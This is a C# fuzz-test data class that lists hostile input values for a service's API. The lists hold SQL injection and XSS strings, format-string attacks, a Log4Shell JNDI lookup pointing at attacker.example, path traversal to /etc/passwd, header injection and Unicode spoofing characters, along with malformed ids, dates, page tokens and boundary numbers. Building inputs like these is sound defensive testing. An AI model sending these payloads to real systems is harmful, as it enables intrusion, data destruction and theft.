using System.Text;

namespace Participatie.Fuzz.Tests.Generation;

/// <summary>
/// Hostile values by kind: text that attacks storage, rendering, logs and parsers; malformed ids and page tokens;
/// numbers at and beyond every bound. Each string here is valid UTF-8 (so it can be put in a well-formed message);
/// invalid UTF-8 and lone surrogates are sent as raw bytes by <see cref="WireFuzzer"/>.
/// </summary>
public static class Hostile
{
    public static readonly IReadOnlyList<string> Injection =
    [
        "'; DROP TABLE grain_state; --",
        "\" OR 1=1 --",
        "' OR '1'='1",
        "Robert'); DROP TABLE Students;--",
        "1; SELECT pg_sleep(10)",
        "'||(SELECT version())||'",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "{0}",
        "{0:D999999999}",
        "%s%n%x%n",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "#{7*7}",
        "{\"given_name\":\"x\"}",
        "\\",
        "\"",
        "\\u0000",
        "a\r\nSet-Cookie: session=x",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%00",
        "%2e%2e%2f",
        "/dev/null",
        "NaN",
        "-1",
        "99999999999999999999999",
    ];

    public static readonly IReadOnlyList<string> Unicode =
    [
        "\0",
        "Jan\0sen",
        "\u0001",
        "\u001b[31mred\u001b[0m",
        "\u007f",
        "\u0085",
        "line\nbreak",
        "carriage\rreturn",
        "tab\tbed",
        "para\u2028graph",
        "para\u2029graph",
        "\u202Eevil.exe",
        "abc\u202Dxyz",
        "\u2066isolate\u2069",
        "\u200F",
        "zero\u200Bwidth",
        "\uFEFFbom",
        "\uFFFE",
        "\uFFFF",
        "\uFFFD",
        "e\u0301\u0301\u0301",
        "👩‍👩‍👧‍👦",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "محمد العمراني",
        "山田太郎",
        "IJsbrand van 't Hoff",
        "Ça va, Zoë?",
        "   ",
        "  Padded Name  ",
        "\u00A0\u3000",
    ];

    /// <summary>Ids of every kind, well-formed and not, including the hexadecimal keys Orleans would read as numbers.</summary>
    public static readonly IReadOnlyList<string> Ids =
    [
        "",
        "cl-",
        "co-",
        "wk-",
        "cl-ZZZ",
        "cl-0000000000000000",
        "co-0000000000000000",
        "cl-zzzzzzzzzzzzzzzz",
        "cl-ABCDEFGHJKMNPQRS",
        "cl-00000000000000000",
        "cl-000000000000000",
        "020235",
        "20235",
        "0x1F",
        "deadbeef",
        "DEADBEEF0123456789",
        "00000000-0000-0000-0000-000000000000",
        "wk-A",
        "wk--",
        "wk-a/../b",
        "wk-" + new string('a', 61),
        "wk-" + new string('a', 60),
        "wk-does-not-exist",
        "wk-%00",
        "wk-a\0",
        "cl-../../etc/passwd",
        "../",
        "%00",
        "*",
        "cl-0000000000000000 ",
        " cl-0000000000000000",
        "cl-0000000000000000\n",
        "ｃｌ-0000000000000000",
        new string('c', 10_000),
    ];

    public static readonly IReadOnlyList<string> Dates =
    [
        "1971-02-30",
        "0000-00-00",
        "0001-01-01",
        "9999-12-31",
        "2100-01-01",
        "1971-4-30",
        "30-04-1971",
        "1971/04/30",
        "1971-04-30T00:00:00Z",
        "19710430",
        "-1971-04-30",
        "+1971-04-30",
        "１９７１-04-30",
    ];

    /// <summary>Page tokens: garbage, base64 of junk, negative offsets, the right prefix with the wrong body.</summary>
    public static IReadOnlyList<string> PageTokens { get; } =
    [
        "garbage",
        "p1.",
        "p1.!!!!",
        "p1.=",
        "p1.a",
        "p1." + Base64Url([0]),
        "p1." + Base64Url("\n"u8.ToArray()),
        "p1." + Base64Url([0xFF, 0xFE, 0xFD, 0x80]),
        "p1." + Base64Url("-1"u8.ToArray()),
        "p1." + Base64Url("offset=-1"u8.ToArray()),
        "p1." + Base64Url("'; DROP TABLE grain_state; --"u8.ToArray()),
        "p1." + Base64Url("\uFFFF"u8.ToArray()),
        "p1." + new string('A', 600),
        "p2." + Base64Url("wk-a"u8.ToArray()),
        Convert.ToBase64String("offset=-1"u8.ToArray()),
        Convert.ToBase64String([0, 1, 2, 3, 4, 5]),
        "-1",
        "9223372036854775807",
    ];

    public static readonly IReadOnlyList<int> Int32s =
    [
        0, 1, -1, int.MinValue, int.MaxValue, int.MinValue + 1, int.MaxValue - 1,
        26, 27, 59, 60, 61, 67, 68, 239, 240, 241, 999, 1000, 1001, 1024, -1000, 65_536, 1_000_000,
    ];

    public static readonly IReadOnlyList<long> Int64s =
    [
        0, 1, -1, long.MinValue, long.MaxValue, int.MinValue, int.MaxValue, (long)int.MaxValue + 1, (long)int.MinValue - 1,
    ];

    public static readonly IReadOnlyList<double> Doubles =
    [
        0, -0.0, 1, -1, double.NaN, double.PositiveInfinity, double.NegativeInfinity, double.MaxValue, double.MinValue, double.Epsilon,
    ];

    /// <summary>Enum numbers beyond the defined members, besides which every defined member is tried.</summary>
    public static readonly IReadOnlyList<int> EnumNumbers = [0, -1, 5, 42, 99, 1000, int.MaxValue, int.MinValue];

    /// <summary>How many elements a hostile repeated field gets: none, one, some, and floods.</summary>
    public static readonly IReadOnlyList<int> RepeatedCounts = [0, 1, 2, 5, 100, 1000, 20_000];

    /// <summary>Lengths far beyond every field limit, all within the message size limit.</summary>
    public static readonly IReadOnlyList<int> OversizedLengths = [101, 257, 513, 2_001, 10_000, 100_000, 1_000_000];

    /// <summary>A hostile string for a field, chosen by what the field holds, sometimes built around its plausible value.</summary>
    public static string Text(Random random, string fieldName, string plausible)
    {
        var pick = random.Next(100);
        if (fieldName.EndsWith("_id", StringComparison.Ordinal) && pick < 40)
        {
            return random.Next(4) == 0 ? Around(random, plausible) : Pick(random, Ids);
        }

        if (fieldName.EndsWith("page_token", StringComparison.Ordinal) && pick < 50)
        {
            return Pick(random, PageTokens);
        }

        if (fieldName.StartsWith("date", StringComparison.Ordinal) && pick < 40)
        {
            return Pick(random, Dates);
        }

        return random.Next(9) switch
        {
            0 or 1 => Pick(random, Injection),
            2 or 3 => Pick(random, Unicode),
            4 => Pick(random, Ids),
            5 => Around(random, plausible),
            6 => Oversized(random),
            7 => RandomText(random, random.Next(1, 40)),
            _ => Pick(random, PageTokens),
        };
    }

    /// <summary>A plausible value with something hostile before, inside or after it.</summary>
    public static string Around(Random random, string plausible)
    {
        var attack = random.Next(2) == 0 ? Pick(random, Injection) : Pick(random, Unicode);
        return random.Next(3) switch
        {
            0 => plausible + attack,
            1 => attack + plausible,
            _ => plausible.Length < 2 ? plausible + attack : plausible[..(plausible.Length / 2)] + attack + plausible[(plausible.Length / 2)..],
        };
    }

    public static string Oversized(Random random)
    {
        var length = Pick(random, OversizedLengths);
        var unit = random.Next(4) switch
        {
            0 => "x",
            1 => "é",
            2 => "👩",
            _ => "'; DROP TABLE grain_state; --",
        };
        var builder = new StringBuilder(length + unit.Length);
        while (builder.Length < length)
        {
            builder.Append(unit);
        }

        return builder.ToString();
    }

    /// <summary>Random Unicode scalar values from every plane (never a lone surrogate: those cannot be UTF-8).</summary>
    public static string RandomText(Random random, int length)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < length; i++)
        {
            var scalar = random.Next(5) switch
            {
                0 => random.Next(0, 0x20),
                1 => random.Next(0x20, 0x7F),
                2 => random.Next(0x80, 0xD800),
                3 => random.Next(0xE000, 0x10000),
                _ => random.Next(0x10000, 0x110000),
            };
            builder.Append(char.ConvertFromUtf32(scalar));
        }

        return builder.ToString();
    }

    public static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private static string Base64Url(byte[] bytes) => Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_');
}
